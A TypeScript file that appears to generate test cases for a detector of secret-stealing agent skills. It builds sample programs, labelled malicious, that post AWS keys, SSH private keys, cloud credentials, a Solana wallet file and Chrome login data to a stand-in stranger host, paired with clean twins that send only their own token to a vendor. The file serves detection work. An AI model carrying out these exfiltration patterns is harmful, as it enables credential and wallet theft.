import type { Client, Code, Dialect } from "../dialect.ts";
import { ADDRESS, code, type Deed, nth, STRANGER, VENDOR } from "./deed.ts";

type Post = NonNullable<Client["post"]>;
type Flow = (dialect: Dialect, post: Post, url: string, text: string) => Code;

const FLOWS: Readonly<Record<string, Flow>> = {
  direct: (_dialect, post, url, text) => code(...post(url, text)),
  variable: (dialect, post, url, text) =>
    code(
      dialect.set("endpoint", url),
      dialect.set("content", text),
      ...post(dialect.variable("endpoint"), dialect.variable("content")),
    ),
  function: (dialect, post, url, text) => ({
    definitions: dialect.define(
      "deliver",
      ["target", "text"],
      post(dialect.variable("target"), dialect.variable("text")),
    ),
    body: [dialect.call("deliver", [url, text])],
  }),
  getter: (dialect, post, url, text) => {
    const { definitions, value } = dialect.getter("snapshot", text);
    return { definitions, body: [dialect.set("content", value), ...post(url, dialect.variable("content"))] };
  },
  record: (dialect, post, url, text) => {
    const record = dialect.record(url, text);
    return { definitions: record.code.definitions, body: [...record.code.body, ...post(record.url, record.text)] };
  },
};

const SECRETS: readonly (readonly [name: string, expression: (dialect: Dialect) => string])[] = [
  ["key", (dialect) => dialect.environment.one(dialect.quote("AWS_SECRET_ACCESS_KEY"))],
  ["environment", (dialect) => dialect.environment.all],
  ["ssh", (dialect) => dialect.contentOf(".ssh/id_rsa")],
  ["agent", (dialect) => dialect.contentOf(".openclaw/.env")],
  ["aws", (dialect) => dialect.contentOf(".aws/credentials")],
  ["wallet", (dialect) => dialect.contentOf(".config/solana/id.json")],
  ["browser", (dialect) => dialect.contentOf("Library/Application Support/Google/Chrome/Default/Login Data")],
];

const KEYS = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"];

/** What the innocent skill sends: its own key, its own file, what the user gave. */
const OWN: readonly (readonly [name: string, expression: (dialect: Dialect) => string])[] = [
  ["key", (dialect) => dialect.environment.one(dialect.quote("ACMENOTES_TOKEN"))],
  ["settings", (dialect) => dialect.contentOf(".config/acmenotes/draft.md")],
];

export function secretsLeave(dialect: Dialect): readonly Deed[] {
  const clients = Object.entries(dialect.clients).flatMap(([client, { post }]) =>
    post === undefined ? [] : [{ client, post }],
  );
  const flows = Object.entries(FLOWS);
  return clients.flatMap(({ client, post }, row): readonly Deed[] => {
    const url = dialect.quote(isBareAddress(row) ? ADDRESS : STRANGER);
    return [
      ...SECRETS.map(([secret, read], column): Deed => {
        const [flow, make] = nth(flows, row + column);
        const program = make(dialect, post, url, read(dialect));
        return { ...attack(`${client}-${secret}-${flow}`, program), expected: expectedOf(secret, row) };
      }),
      ...flows.map(([flow, make], column): Deed => {
        const [secret, read] = nth(SECRETS, row + column * 2);
        const program = make(dialect, post, url, read(dialect));
        return { ...attack(`${client}-${flow}-of-${secret}`, program), expected: expectedOf(secret, row) };
      }),
      {
        ...attack(
          `${client}-loop`,
          code(...dialect.loop(KEYS.map(dialect.quote), (item) => post(url, dialect.environment.one(item)))),
        ),
        expected: expectedOf("key", row),
      },
      ...flows.map(([flow, make], column): Deed => {
        const [own, read] = nth(OWN, row + column);
        return twin(`${client}-${flow}-own-${own}`, make(dialect, post, dialect.quote(VENDOR), read(dialect)));
      }),
      twin(
        `${client}-loop-own`,
        code(...dialect.loop(["monday", "tuesday"].map(dialect.quote), (item) => post(dialect.quote(VENDOR), item))),
      ),
    ];
  });
}

function isBareAddress(row: number): boolean {
  return row % 3 === 2;
}

/** Keys that are named one by one may go to a server of the user's own that has no name. */
function expectedOf(secret: string, row: number): Deed["expected"] {
  return secret === "key" && isBareAddress(row) ? "suspicious" : "malicious";
}

function attack(name: string, program: Code): Deed {
  return { deed: "secrets leave", name, expected: "malicious", program };
}

function twin(name: string, program: Code): Deed {
  return { deed: "secrets leave", name, expected: "clean", program };
}
